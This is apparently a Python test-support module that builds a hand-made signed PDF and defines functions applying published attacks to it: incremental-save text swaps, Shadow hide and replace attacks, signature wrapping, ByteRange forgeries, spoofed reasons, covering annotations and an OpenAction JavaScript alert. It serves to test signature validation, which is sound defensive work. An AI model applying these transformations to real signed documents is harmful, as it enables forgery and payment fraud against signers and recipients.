"""What somebody can do to a signed PDF without the key, each made by hand, octet by octet.

What lives here: `victim`, a document with everything that attacks need; `append`, an update written
by hand; and the attacks, each a function from the signed document to the one that deceives.
Source: Mladenov et al., "1 Trillion Dollar Refund" (2019); Mainka et al., "Shadow Attacks" (2021);
Rohlmann et al., "Breaking the Specification: PDF Certification" (2021).
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Final

from tests.support.handmade_pdf import HandmadePdf

ROOT: Final = 1
TREE: Final = 2
FONT: Final = 3
CONTENT: Final = 4
PAGE: Final = 5
OTHER_PAGE: Final = 6
LAYER: Final = 7
FIELD: Final = 8
LOOKS: Final = 9
EMPTY: Final = 10
FORM: Final = 11
SPARE: Final = 12
"""Numbers of the objects of `victim`, its last one unused."""

_SHAPE: Final = "/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
_NEXT: Final = 900
"""From here on objects of attackers."""


def victim() -> bytes:
    """Two pages; the first with a picture over its text, a field that says something, an empty one.

    Behind the object of its picture stands the same object once more, saying something else, and no
    table names it: what a signer would have to see is not seen by anybody.
    """
    made = HandmadePdf()
    made.root = made.add(
        f"<< /Type /Catalog /Pages {TREE} 0 R /AcroForm {FORM} 0 R "
        "/OCProperties << /OCGs [] /D << /Order [] >> >> >>"
    )
    made.add(
        f"<< /Type /Pages /Count 2 /Kids [{PAGE} 0 R {OTHER_PAGE} 0 R] /MediaBox [0 0 595 842] >>"
    )
    made.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    made.add_stream(b"BT /F1 24 Tf 72 600 Td (Pay 100 to the bearer) Tj ET /Im0 Do")
    resources = f"/Resources << /Font << /F1 {FONT} 0 R >> /XObject << /Im0 {LAYER} 0 R >> >>"
    made.add(
        f"<< /Type /Page /Parent {TREE} 0 R /Contents {CONTENT} 0 R {resources} "
        f"/Annots [{FIELD} 0 R {EMPTY} 0 R] >>"
    )
    made.add(f"<< /Type /Page /Parent {TREE} 0 R /Contents {CONTENT} 0 R {resources} >>")
    made.add_stream(b"0.5 g 60 300 300 80 re f", _SHAPE)
    made.add(_field("Said", "(seven)", f"/AP << /N {LOOKS} 0 R >>", bottom=200))
    made.add_stream(b"BT /F1 18 Tf 4 8 Td (seven) Tj ET", _looks())
    made.add(_field("Blank", "", "", bottom=120))
    made.add(f"<< /Fields [{FIELD} 0 R {EMPTY} 0 R] /DR << /Font << /F1 {FONT} 0 R >> >> >>")
    made.add("null")
    return made.classic()


def prepared_victim() -> bytes:
    """The victim with a second face of its text in it, which no table names yet."""
    whole = victim()
    hidden = _stream_object(CONTENT, b"BT /F1 24 Tf 72 600 Td (Pay 999 to Mallory) Tj ET /Im0 Do")
    at = whole.rindex(b"xref\n0 ")
    shifted = whole[:at] + hidden + whole[at:]
    start = int(re.findall(rb"startxref\n(\d+)", whole)[-1])
    return shifted.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start + len(hidden)))


def with_trick(trick: str) -> bytes:
    """The victim whose picture is reached in a roundabout way, which a careless reader misses."""
    whole = victim()
    page = latest(whole, PAGE).replace(b"<< /Im0 7 0 R >>", b"12 0 R")
    return append(whole, {PAGE: page, SPARE: trick.encode()})


def of_another_generation() -> bytes:
    """The victim whose picture is an object of generation 1."""
    whole = victim().replace(b"\n7 0 obj", b"\n7 1 obj").replace(b"/Im0 7 0 R", b"/Im0 7 1 R")
    lines = whole.split(b"\n")
    row = lines.index(b"xref") + 2 + LAYER
    lines[row] = lines[row].replace(b" 00000 n", b" 00001 n")
    return b"\n".join(lines)


def with_what_is_missing() -> bytes:
    """The victim with references to a note and to a picture that are not there."""
    whole = victim()
    page = latest(whole, PAGE).replace(b"/Annots [", b"/Annots [900 0 R ")
    page = page.replace(b"/Im0 7 0 R", b"/Im0 901 0 R")
    return append(whole, {PAGE: page})


def append(
    content: bytes,
    objects: Mapping[int, bytes] | None = None,
    *,
    freed: tuple[int, ...] = (),
    places: Mapping[int, int] | None = None,
    root: int = ROOT,
) -> bytes:
    """An update behind a document.

    Takes   objects: their new bodies; freed: that are no more; places: that stand elsewhere, in
            octets that were there before.
    """
    out = bytearray(content)
    rows = {number: f"{place:010d} 00000 n \n" for number, place in (places or {}).items()}
    rows |= dict.fromkeys(freed, "0000000000 00001 f \n")
    for number, body in (objects or {}).items():
        rows[number] = f"{len(out):010d} 00000 n \n"
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n" + "".join(f"{one} 1\n{rows[one]}" for one in sorted(rows)).encode()
    before = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    size = max(1_000, *(int(one) for one in re.findall(rb"/Size (\d+)", content)))
    out += (
        f"trailer\n<< /Size {size} /Root {root} 0 R /Prev {before} >>\nstartxref\n{start}\n%%EOF\n"
    ).encode()
    return bytes(out)


def other_text(signed: bytes) -> bytes:
    """Incremental saving: the content of the pages is another one."""
    return append(signed, {CONTENT: _stream(b"BT /F1 24 Tf 72 600 Td (Pay 900 to Mallory) Tj ET")})


def other_text_in_a_new_object(signed: bytes) -> bytes:
    """The same, with the page changed instead of its content."""
    page = latest(signed, PAGE).replace(b"/Contents 4 0 R", b"/Contents 900 0 R")
    text = _stream(b"BT /F1 24 Tf 72 600 Td (Pay 900 to Mallory) Tj ET")
    return append(signed, {PAGE: page, _NEXT: text})


def text_without_a_table(signed: bytes) -> bytes:
    """Octets behind the end, which a lenient reader takes for the newest."""
    return signed + _stream_object(CONTENT, b"BT /F1 24 Tf 72 600 Td (Pay 900) Tj ET")


def page_added(signed: bytes) -> bytes:
    """One page more."""
    tree = latest(signed, TREE)
    tree = tree.replace(b"/Count 2", b"/Count 3").replace(b"6 0 R]", b"6 0 R 900 0 R]")
    return append(signed, {TREE: tree, _NEXT: latest(signed, OTHER_PAGE)})


def page_removed(signed: bytes) -> bytes:
    """One page less."""
    tree = latest(signed, TREE).replace(b"/Count 2", b"/Count 1").replace(b" 6 0 R]", b"]")
    return append(signed, {TREE: tree})


def picture_replaced(signed: bytes) -> bytes:
    """What covered the text lies elsewhere; the page and its content are what they were."""
    return append(signed, {LAYER: _stream(b"0.5 g 60 700 300 80 re f", _SHAPE)})


def picture_of_generation_replaced(signed: bytes) -> bytes:
    """The same, for an object of generation 1."""
    attacked = picture_replaced(signed)
    behind = attacked[len(signed) :].replace(b"7 0 obj", b"7 1 obj")
    return signed + behind.replace(b" 00000 n", b" 00001 n")


def twin_field(signed: bytes) -> bytes:
    """Shadow "replace", behind a second field of the same name that says what the first one did."""
    looks = _stream(b"BT /F1 18 Tf 4 8 Td (nine) Tj ET", _looks())
    form = latest(signed, FORM).replace(b"10 0 R", b"10 0 R 900 0 R")
    twin = latest(signed, FIELD)
    return append(signed, {LOOKS: looks, _NEXT: twin, FORM: form})


def missing_note_delivered(signed: bytes) -> bytes:
    """The note that the page waits for comes; nothing that was there is touched."""
    note = b"<< /Type /Annot /Subtype /FreeText /Rect [60 580 400 640] /F 4 /AP << /N 902 0 R >> >>"
    return append(signed, {_NEXT: note, _NEXT + 2: _stream(b"1 g 0 0 595 842 re f", _SHAPE)})


def missing_picture_delivered(signed: bytes) -> bytes:
    """The picture that the page waits for comes."""
    return append(signed, {_NEXT + 1: _stream(b"0 g 60 590 300 60 re f", _SHAPE)})


def picture_freed(signed: bytes) -> bytes:
    """Shadow "hide": what covered the text is taken away."""
    return append(signed, freed=(LAYER,))


def value_replaced(signed: bytes) -> bytes:
    """Shadow "replace": a field says something else than it did."""
    looks = _stream(b"BT /F1 18 Tf 4 8 Td (nine) Tj ET", _looks())
    field = latest(signed, FIELD).replace(b"(seven)", b"(nine)")
    return append(signed, {FIELD: field, LOOKS: looks})


def looks_replaced(signed: bytes) -> bytes:
    """Shadow "replace", by the looks of a field alone."""
    return append(signed, {LOOKS: _stream(b"BT /F1 18 Tf 4 8 Td (nine) Tj ET", _looks())})


def font_replaced(signed: bytes) -> bytes:
    """Shadow "replace", by a font in which the letters are others."""
    return append(signed, {FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"})


def table_switched(signed: bytes) -> bytes:
    """Shadow "hide and replace": the table points at what was prepared; of `prepared_victim`."""
    return append(
        signed, places={CONTENT: signed.rindex(b"\n4 0 obj", 0, signed.index(b"Mallory")) + 1}
    )


def layer_switched(signed: bytes) -> bytes:
    """Shadow "hide" by layers: which are shown is said anew."""
    root = latest(signed, ROOT).replace(b"/D <<", b"/D << /BaseState /OFF")
    return append(signed, {ROOT: root})


def action_added(signed: bytes) -> bytes:
    """Something is done when the document is opened."""
    root = latest(signed, ROOT)[:-2] + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    return append(signed, {ROOT: root})


def note_added(signed: bytes) -> bytes:
    """An annotation with text of its own over the page."""
    note = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [60 580 400 640] /F 4 "
        b"/AP << /N 901 0 R >> /Contents (Pay 900) /DA (/F1 12 Tf) >>"
    )
    shape = b"/Type /XObject /Subtype /Form /BBox [0 0 340 60]"
    looks = _stream(b"1 g 0 0 340 60 re f 0 g 10 10 100 20 re f", shape.decode())
    page = latest(signed, PAGE).replace(b"/Annots [", b"/Annots [900 0 R ")
    return append(signed, {_NEXT: note, _NEXT + 1: looks, PAGE: page})


def signature_field_over_the_page(signed: bytes) -> bytes:
    """A further signature, empty of meaning, whose looks hide the page."""
    looks = _stream(b"1 g 0 0 595 842 re f", _SHAPE)
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Cover) /F 4 /Rect [0 0 595 842] "
        b"/P 5 0 R /AP << /N 901 0 R >> >>"
    )
    page = latest(signed, PAGE).replace(b"/Annots [", b"/Annots [900 0 R ")
    form = latest(signed, FORM).replace(b"/Fields [", b"/Fields [900 0 R ")
    return append(signed, {_NEXT: widget, _NEXT + 1: looks, PAGE: page, FORM: form})


def reason_replaced(signed: bytes) -> bytes:
    """A spoofed dictionary: the same signature, said to be for something else."""
    number, body = signature_object(signed)
    return append(signed, {number: body[:-2] + b"/Reason (I agree to everything) >>"})


def signature_unlisted(signed: bytes) -> bytes:
    """The form knows of no signature any more."""
    return append(signed, {FORM: b"<< /Fields [8 0 R 10 0 R] >>"})


def wrapped(signed: bytes) -> bytes:
    """Signature wrapping: what was signed moves behind, something else stands before it."""
    first, start, end, rest = byte_range(signed)
    tail = signed[end : end + rest]
    evil = b" >>\nendobj\n900 0 obj\n<< /Evil (Pay 900 to Mallory)"
    moved = end + len(evil)
    number = f"[0 {start} {moved} {rest}".encode()
    hit = re.search(rb"/ByteRange ?\[[^\]]*\]", signed)
    assert hit is not None
    assert first == 0
    room = hit.end() - hit.start()
    said = (b"/ByteRange " + number).ljust(room - 1) + b"]"
    assert len(said) == room
    return signed[: hit.start()] + said + signed[hit.end() : end] + evil + tail


def range_missing(signed: bytes) -> bytes:
    """Universal forgery: nothing says what is signed."""
    return signed.replace(b"/ByteRange", b"/ByteRadge", 1)


def range_negative(signed: bytes) -> bytes:
    """Universal forgery, with numbers below nothing."""
    return re.sub(
        rb"/ByteRange( ?)\[0 (\d)",
        lambda hit: b"/ByteRange" + hit[1] + b"[0 -",
        signed,
        count=1,
    )


def value_emptied(signed: bytes) -> bytes:
    """Universal forgery: a value of zeroes."""
    _, start, end, _ = byte_range(signed)
    return signed[: start + 1] + b"0" * (end - start - 2) + signed[end - 1 :]


def signed_twice_by_one(signed: bytes) -> bytes:
    """Overlapping ranges: a second field with the first one's value."""
    number, _ = signature_object(signed)
    field = (
        f"<< /FT /Sig /T (Twin) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /V {number} 0 R >>"
    )
    form = latest(signed, FORM).replace(b"/Fields [", b"/Fields [900 0 R ")
    return append(signed, {_NEXT: field.encode(), FORM: form})


def value_said_twice(signed: bytes) -> bytes:
    """A dictionary with two values: which one counts is up to who reads it."""
    return re.sub(rb"/Filter /Adobe.PPKLite", b"/Contents <30030101>   ", signed, count=1)


def blank_filled(signed: bytes) -> bytes:
    """No attack: an empty field is filled."""
    looks = _stream(b"BT /F1 18 Tf 4 8 Td (yes) Tj ET", _looks())
    field = latest(signed, EMPTY)[:-2] + b"/V (yes) /AP << /N 900 0 R >> >>"
    return append(signed, {EMPTY: field, _NEXT: looks})


def title_changed(signed: bytes) -> bytes:
    """No attack: the version of the file is said again, and an object written as it was."""
    root = latest(signed, ROOT)[:-2] + b"/Version /2.0 >>"
    return append(
        signed, {ROOT: root, PAGE: latest(signed, PAGE), CONTENT: latest(signed, CONTENT)}
    )


def sneaky_signature(signed: bytes) -> bytes:
    """A further signature whose looks say something about the document."""
    return sign_field_by_hand(signed, rectangle="300 700 500 740")


def sneaky_field(signed: bytes) -> bytes:
    """A further signature field with looks, which nobody signed."""
    return sneaky_signature(signed).replace(b"/V 901 0 R", b"           ")


def sign_field_by_hand(signed: bytes, *, rectangle: str = "0 0 0 0") -> bytes:
    """A further signature field with a value, which nobody can verify."""
    value = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents <3000> "
    )
    value += b"/ByteRange [0 10 20 30] >>"
    field = (
        f"<< /FT /Sig /T (Later) /Type /Annot /Subtype /Widget /Rect [{rectangle}] /F 4 "
        f"/P {PAGE} 0 R /V 901 0 R /AP << /N 902 0 R >> >>"
    )
    looks = _stream(b"0.7 g 0 0 200 40 re f", "/Type /XObject /Subtype /Form /BBox [0 0 200 40]")
    page = latest(signed, PAGE).replace(b"/Annots [", b"/Annots [900 0 R ")
    form = latest(signed, FORM).replace(b"/Fields [", b"/Fields [900 0 R ")
    objects = {_NEXT: field.encode(), _NEXT + 1: value, _NEXT + 2: looks}
    return append(signed, {**objects, PAGE: page, FORM: form})


def with_signature_field(lock: str) -> bytes:
    """The victim with an empty signature field `Here` that locks something."""
    field = f"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Here) /Rect [0 0 0 0] /P {PAGE} 0 R "
    whole = victim()
    page = latest(whole, PAGE).replace(b"/Annots [", b"/Annots [12 0 R ")
    form = latest(whole, FORM).replace(b"/Fields [", b"/Fields [12 0 R ")
    return append(whole, {SPARE: f"{field} /Lock {lock} >>".encode(), PAGE: page, FORM: form})


def byte_range(content: bytes) -> tuple[int, int, int, int]:
    """Of the last signature."""
    hit = re.findall(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)", content)[-1]
    first, start, end, rest = (int(one) for one in hit)
    return first, start, end, rest


def latest(content: bytes, number: int) -> bytes:
    """The body of an object as it was written last."""
    bodies = re.findall(rb"(?:^|\n)%d 0 obj\s(.*?)\s?endobj" % number, content, re.DOTALL)
    return bytes(bodies[-1]).strip()


def signature_object(content: bytes) -> tuple[int, bytes]:
    """Number and body of the first signature."""
    for hit in re.finditer(rb"(?:^|\n)(\d+) 0 obj\s(.*?)\s?endobj", content, re.DOTALL):
        if b"/ByteRange" in hit[2]:
            return int(hit[1]), hit[2].strip()
    raise AssertionError


def _field(name: str, value: str, more: str, *, bottom: int) -> str:
    said = f"/V {value}" if value else ""
    return (
        f"<< /Type /Annot /Subtype /Widget /FT /Tx /T ({name}) {said} {more} /F 4 "
        f"/Rect [100 {bottom} 260 {bottom + 30}] /P {PAGE} 0 R /DA (/F1 18 Tf) >>"
    )


def _looks() -> str:
    font = f"/Resources << /Font << /F1 {FONT} 0 R >> >>"
    return f"/Type /XObject /Subtype /Form /BBox [0 0 160 30] {font}"


def _stream(data: bytes, dictionary: str = "") -> bytes:
    head = f"<< /Length {len(data)} {dictionary} >>\nstream\n".encode()
    return head + data + b"\nendstream"


def _stream_object(number: int, data: bytes) -> bytes:
    return b"%d 0 obj\n%b\nendobj\n" % (number, _stream(data))
